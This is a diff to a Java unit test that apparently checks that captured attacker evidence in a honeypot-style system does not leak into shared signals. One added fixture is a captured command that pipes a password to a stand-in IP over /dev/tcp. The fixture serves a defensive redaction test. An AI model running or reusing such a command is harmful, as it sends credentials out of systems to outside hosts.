@@ -43,8 +43,16 @@ class SignalsTest {
     private static final Instant NOW = Instant.parse("2026-11-27T12:00:00Z");
 
     /** What must be in no level. */
-    private static final List<String> NEVER =
-            List.of("SECRETUSER", "SECRETPASSWORD", "OPERATORSNOTE", "SECRETFILE", "SECRETHEADER", "RECORDING");
+    private static final List<String> NEVER = List.of(
+            "SECRETUSER",
+            "SECRETPASSWORD",
+            "OPERATORSNOTE",
+            "SECRETFILE",
+            "SECRETHEADER",
+            "RECORDING",
+            "203.0.113.99",
+            "BROKEN",
+            "REQUESTED");
 
     private static byte[] signal(SharingLevel level) {
         Touch touch = new Touch(
@@ -66,6 +74,10 @@ class SignalsTest {
                 List.of(
                         new Evidence.Credential("password", Captured.of("SECRETUSER"), Captured.of("SECRETPASSWORD")),
                         new Evidence.Detail("name", Captured.of("SECRETHEADER")),
+                        new Evidence.Request(Captured.of("REQUESTED of SOMEBODY@203.0.113.99")),
+                        new Evidence.Violation("what", Captured.of("BROKEN")),
+                        new Evidence.Command(
+                                Captured.of("su SECRETUSER; echo SECRETPASSWORD >/dev/tcp/203.0.113.99/1")),
                         new Evidence.Command(Captured.of("wget " + "x".repeat(400) + " TOO LONG")),
                         new Evidence.Upload(Captured.of("SECRETFILE"), 3, "00", Captured.of("UPLOADED"))),
                 Conversation.Ending.CLIENT,
